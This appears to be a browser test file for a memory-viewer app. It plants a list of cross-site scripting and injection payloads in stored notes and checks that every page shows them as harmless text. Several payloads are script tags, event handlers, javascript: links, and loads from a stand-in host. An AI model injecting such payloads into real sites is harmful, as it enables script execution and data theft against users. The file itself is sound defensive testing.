/** Memories that would be more than text, as a peer or an import may bring them, in a real browser. */
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import type { Page } from "playwright-core";
import { chromiumTest, TestBrowser } from "../support/viewer/browser.ts";
import { startDevice, type TestDevice } from "../support/devices/device.ts";

/** Would set `owned` in the page, or ask another host for something. */
const HOSTILE = [
  "<script>owned=1</script>",
  '</script><script src="http://evil.example/x.js"></script>',
  "</title><script>owned=2</script>",
  "<img src=http://evil.example/x.png onerror=owned=3>",
  '"><svg onload=owned=4>',
  "' autofocus onfocus=owned=5 x='",
  "<iframe srcdoc='<script>parent.owned=6</script>'></iframe>",
  "<style>@import 'http://evil.example/x.css'; body { display: none }</style>",
  "<base href='http://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
  "<a href='javascript:owned=7'>press</a> javascript:owned=7",
  "<!-- --!> ]]> <![CDATA[ <noscript><p title='</noscript><img src=x onerror=owned=8>'>",
  "\u2028\u2029 \\u003cscript\\u003eowned=9\\u003c/script\\u003e `${owned=9}` {{owned=9}}",
  "\u202egnirts desrever\u202c \u2066\u2067\u2068 \u200f end",
  "\u0000\u0007\u001b[31m red \u009b31m",
];

Deno.test(chromiumTest("whatever a memory holds is text in every page"), async () => {
  await using device = await startDevice("studio", { loop: false });
  await using browser = await TestBrowser.start();
  const ids = HOSTILE.map((text) => keep(device, text));
  const origin = `http://127.0.0.1:${device.settings.viewerPort}`;
  for (const javaScript of [true, false]) {
    const page = await browser.open("about:blank", { javaScript });
    const elsewhere: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(`${origin}/`)) elsewhere.push(request.url());
    });
    for (const path of ["/", "/?q=owned", "/sync", ...ids.map((id) => `/memories/${id}`)]) {
      await page.goto(`${origin}${path}`);
      await assertHarmless(page, path);
    }
    assertEquals(elsewhere.filter((url) => !url.startsWith("data:")), []);
    await page.context().close();
  }
});

Deno.test(chromiumTest("a title of a megabyte is shown, and the list stays small"), async () => {
  await using device = await startDevice("studio", { loop: false });
  await using browser = await TestBrowser.start();
  const title = "W".repeat(1_000_000);
  const { id } = device.store.memories.remember({ kind: "note", title, body: "short" });
  const origin = `http://127.0.0.1:${device.settings.viewerPort}`;
  const list = await (await fetch(`${origin}/`)).text();
  assert(list.length < 100_000, `the list has ${list.length} characters`);
  const page = await browser.open(`${origin}/memories/${id}`);
  assertStringIncludes(await page.locator("h1").innerText(), "WWWW");
  const isWide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
  assertEquals(isWide, false);
});

/** A memory that has it in every field. */
function keep({ store }: TestDevice, text: string): string {
  const list = [text, text];
  return store.memories.remember({
    kind: "note",
    title: text,
    body: `owned ${text}`,
    subtitle: text,
    narrative: text,
    facts: list,
    concepts: list,
    filesRead: list,
    filesModified: list,
    tags: list,
    project: text,
  }).id;
}

async function assertHarmless(page: Page, path: string): Promise<void> {
  const found = await page.evaluate(() => ({
    owned: "owned" in globalThis,
    strange: document.querySelectorAll(
      "iframe, svg[onload], img, base, style, meta[http-equiv], [onerror], [onfocus], [autofocus]",
    ).length,
    scripts: [...document.scripts].map(({ type }) => type).sort(),
    links: [...document.links].filter(({ protocol }) => protocol !== "http:").length,
    isShown: getComputedStyle(document.body).display !== "none",
  }));
  assertEquals(found, {
    owned: false,
    strange: 0,
    scripts: ["application/json", "module"],
    links: 0,
    isShown: true,
  }, path);
}
